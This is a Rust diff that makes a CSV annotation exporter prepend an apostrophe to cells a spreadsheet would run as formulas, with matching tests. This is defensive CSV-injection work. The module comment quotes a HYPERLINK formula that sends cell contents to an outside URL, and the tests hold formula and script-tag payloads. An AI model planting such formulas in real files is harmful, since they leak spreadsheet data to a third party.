@@ -9,6 +9,15 @@
 //! `tags` holds full paths ("Russia / Bases") joined with "; ", in codebook order. An
 //! orphan has `status` "orphaned" and empty `start`, `end` and `page`: its old position
 //! means nothing in the current text. Rows are in document order, then text order.
+//!
+//! A text cell (document, title, quote, note, tags) that starts with `=`, `+`, `-`, `@`, a
+//! tab or a carriage return gets an apostrophe in front: spreadsheets would otherwise run
+//! it as a formula, and a document under study can hold one on purpose
+//! (`=HYPERLINK("http://…?"&A1)` sends the sheet's cells away when clicked). This is
+//! OWASP's advice for CSV injection; a program reading the file can drop that one leading
+//! apostrophe, or read the W3C export, which keeps every text exactly.
+
+use std::borrow::Cow;
 
 use super::{Context, ExportError, ExportFormat, timestamp};
 
@@ -45,14 +54,14 @@ pub(super) fn render(context: &Context) -> Result<Vec<u8>, ExportError> {
         writer
             .write_record([
                 a.id.to_string().as_str(),
-                &a.document,
-                item.title,
+                &inert(&a.document),
+                &inert(item.title),
                 &start,
                 &end,
                 &page,
-                &a.anchor.quote,
-                &a.note,
-                &tags.join(TAG_SEPARATOR),
+                &inert(&a.anchor.quote),
+                &inert(&a.note),
+                &inert(&tags.join(TAG_SEPARATOR)),
                 &timestamp(a.created),
                 &timestamp(a.modified),
                 status,
@@ -62,6 +71,15 @@ pub(super) fn render(context: &Context) -> Result<Vec<u8>, ExportError> {
     writer
         .into_inner()
         .map_err(|e| ExportError::build(ExportFormat::Csv, e.error()))
+}
+
+/// `text` as a spreadsheet will show it rather than run it (see the module's note).
+pub fn inert(text: &str) -> Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
 }
 
 #[cfg(test)]
@@ -109,9 +127,19 @@ mod tests {
                 (BASES, "military bases in Hmeimim and Tartus"),
                 (BASES, "Talks in Damascus"),
                 (TRICKY, "<script>alert(\"x\")</script> & then"),
-                (TRICKY, "= 1+1 starts"),
+                (TRICKY, "'= 1+1 starts"),
             ]
         );
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_made_inert() {
+        for formula in ["=HYPERLINK(\"http://x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(inert(formula), format!("'{formula}"));
+        }
+        for text in ["Damascus", "", " =1", "'quoted'", "a=b", "−5 (a minus sign)"] {
+            assert_eq!(inert(text), text);
+        }
     }
 
     #[test]
@@ -122,7 +150,10 @@ mod tests {
             let doc = f.corpus.get(field(row, "document")).expect("document");
             let start: usize = field(row, "start").parse().expect("start");
             let end: usize = field(row, "end").parse().expect("end");
-            assert_eq!(doc.text.slice(start..end), Some(field(row, "quote")));
+            // The one quote that starts like a formula carries an apostrophe in front.
+            let quote = field(row, "quote");
+            let quote = quote.strip_prefix("'=").map_or(quote.to_owned(), |q| format!("={q}"));
+            assert_eq!(doc.text.slice(start..end), Some(quote.as_str()));
         }
         let bases = rows
             .iter()
